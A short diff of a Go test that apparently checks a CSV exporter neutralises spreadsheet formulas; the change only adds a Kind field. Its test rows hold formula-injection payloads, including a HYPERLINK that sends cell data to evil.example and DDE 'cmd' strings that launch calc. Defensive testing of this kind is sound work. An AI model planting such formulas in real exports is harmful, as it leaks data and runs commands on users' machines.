@@ -18,7 +18,7 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 	t.Parallel()
 	e := open(t, results.Options{})
 	c := cols("title VARCHAR", "n INTEGER", "x DOUBLE", "price DECIMAL(8,2)", "doc JSON", "span INTERVAL")
-	c = append(c, warehouse.Column{Name: `=HYPERLINK("http://evil.example/?"&A2,"click")`, Type: "VARCHAR"})
+	c = append(c, warehouse.Column{Name: `=HYPERLINK("http://evil.example/?"&A2,"click")`, Type: "VARCHAR", Kind: kindFor("VARCHAR")})
 	src := rowsOf(c,
 		[]any{`=HYPERLINK("http://evil.example/?"&A2,"click")`, int32(-3), -3.5, duck.Decimal{Width: 8, Scale: 2, Value: big.NewInt(-350)}, float64(-3), duck.Interval{Days: -1}, "+cmd|' /C calc'!A0"},
 		[]any{"-2+3", int32(3), 1.0, nil, "@SUM(A1:A2)", nil, "@SUM(1+1)*cmd|' /C calc'!A0"},
